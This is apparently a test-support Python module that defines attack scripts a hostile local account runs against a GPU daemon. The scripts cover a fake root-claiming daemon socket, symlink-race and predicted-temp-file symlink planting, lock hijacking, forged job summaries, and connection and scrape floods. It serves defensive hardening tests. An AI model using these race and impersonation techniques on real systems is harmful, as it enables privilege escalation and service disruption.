"""What a hostile second local account runs (tests/test_hostile.py, benchmarks/attacks.py).

Not a test module. Each attack is Python source run as that account (daemon_harness.run_as /
start_as), so the kernel, not the test, decides what it may do.
"""

from __future__ import annotations

# A fake gpuenvd: answers every request "ok" with whatever a client looks for.
FAKE_DAEMON = r"""
import json, os, socket, sys, threading
path, uuids = sys.argv[1], sys.argv[2].split(",")
gpus = [{"index": i, "uuid": u, "name": "NVIDIA H100 80GB HBM3", "holds": True, "locked": True,
         "range_mhz": [1350, 1350], "owners": [], "lock": "SM 1350 MHz"}
        for i, u in enumerate(uuids)]
lease = {"id": "21ae44fbb253", "gpus": list(range(len(uuids))), "standing": True,
         "request": "sm=1350", "shared": []}
s = socket.socket(socket.AF_UNIX)
s.bind(path)
os.chmod(path, 0o777)
s.listen(64)
print("listening", flush=True)
def serve(c):
    buf = b""
    while True:
        data = c.recv(65536)
        if not data:
            return
        buf += data
        while b"\n" in buf:
            line, _, buf = buf.partition(b"\n")
            req = json.loads(line)
            reply = {"v": 1, "id": req.get("id"), "ok": True, "protocol": 1, "daemon": "9",
                     "pid": os.getpid(), "backend": "sim", "gpus": gpus, "may_lock": [0],
                     "peer": {"uid": 0, "user": "root", "pid": 1, "admin": True},
                     "lease": lease, "leases": [], "restored": list(range(len(uuids))),
                     "daemon_info": {}}
            c.sendall(json.dumps(reply).encode() + b"\n")
while True:
    c, _ = s.accept()
    threading.Thread(target=serve, args=(c,), daemon=True).start()
"""

# Swap a name for a symlink to `target` as fast as it can (unlink whatever is there, link,
# unlink: what root just bound there is replaced by the link), leaving the name free for
# `gap` seconds each round so that root's binds go through; for `seconds`.
SWAPPER = r"""
import os, sys, time
name, target, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
gap = float(sys.argv[4]) if len(sys.argv) > 4 else 0.0
print("swapping", flush=True)
swaps = 0
end = time.monotonic() + seconds
while time.monotonic() < end:
    for step in (lambda: os.unlink(name), lambda: os.symlink(target, name),
                 lambda: os.unlink(name)):
        try:
            step()
        except OSError:
            pass
    swaps += 1
    if gap:
        time.sleep(gap)
print("swaps", swaps, flush=True)
"""

# Plant symlinks to `target` under every temporary name the old sim state used for the next
# `n` pids (".NAME.PID.tmp").
PLANT_PIDS = r"""
import os, sys
directory, name, target, n = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
start = int(open("/proc/sys/kernel/ns_last_pid").read())
for pid in range(start, start + n):
    try:
        os.symlink(target, os.path.join(directory, f".{name}.{pid}.tmp"))
    except OSError:
        pass
print("planted", n, flush=True)
"""

# Make (or open) a lock file 0666 and hold an exclusive flock on it until killed.
HOLD_LOCK = r"""
import fcntl, os, sys, time
fd = os.open(sys.argv[1], os.O_RDWR | os.O_CREAT, 0o666)
os.fchmod(fd, 0o666)
fcntl.flock(fd, fcntl.LOCK_EX)
print("held", flush=True)
time.sleep(300)
"""

# Make a job's ranks directory first and put a forged rank-1 summary in it.
FORGE_RANKS = r"""
import json, os, sys, time
for directory in sys.argv[1:]:
    os.makedirs(directory, exist_ok=True)
    os.chmod(directory, 0o777)
    with open(os.path.join(directory, "rank1.json"), "w") as f:
        json.dump({"rank": 1, "command": "x", "outcome": "exited with 0", "duration_s": 1.0,
                   "where": "GPU 1", "state": "-", "host": "FORGED-BY-MALLORY",
                   "ended_at": time.time() + 3600, "measurements": []}, f)
print("forged", flush=True)
"""

# Make `link` a symlink to `target` (a directory of root's choice... and the attacker's).
LINK = r"""
import os, sys
os.symlink(sys.argv[2], sys.argv[1])
print("linked", flush=True)
"""

# Subscribe 8 times (samples every 0.05 s, lease events) and then stop reading: SIGSTOP.
STOPPED_SUBSCRIBER = r"""
import json, os, signal, socket, sys
s = socket.socket(socket.AF_UNIX)
s.connect(sys.argv[1])
s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
f = s.makefile("rb")
s.sendall(b'{"v":1,"id":1,"op":"hello","versions":[1]}\n')
f.readline()
for i in range(8):
    s.sendall(json.dumps({"v": 1, "id": 2 + i, "op": "subscribe", "period": 0.05,
                          "events": True}).encode() + b"\n")
print("subscribed", flush=True)
os.kill(os.getpid(), signal.SIGSTOP)
"""

# Open N TCP connections to the metrics port (all at once: non-blocking) and keep them open,
# saying nothing.
IDLE_TCP = r"""
import socket, sys, time
held = []
for _ in range(int(sys.argv[2])):
    s = socket.socket()
    s.setblocking(False)
    s.connect_ex(("127.0.0.1", int(sys.argv[1])))
    held.append(s)
print("open", len(held), flush=True)
time.sleep(300)
"""

# Scrape /metrics as fast as it answers, for `seconds`; print how many answered.
SCRAPER = r"""
import socket, sys, time
port, seconds = int(sys.argv[1]), float(sys.argv[2])
print("scraping", flush=True)
ok = 0
end = time.monotonic() + seconds
while time.monotonic() < end:
    try:
        c = socket.create_connection(("127.0.0.1", port), timeout=2)
        c.sendall(b"GET /metrics HTTP/1.0\r\n\r\n")
        data = b""
        while chunk := c.recv(65536):
            data += chunk
        c.close()
        ok += data.startswith(b"HTTP/1.1 200") or data.startswith(b"HTTP/1.0 200")
    except OSError:
        pass
print("scrapes", ok, flush=True)
"""
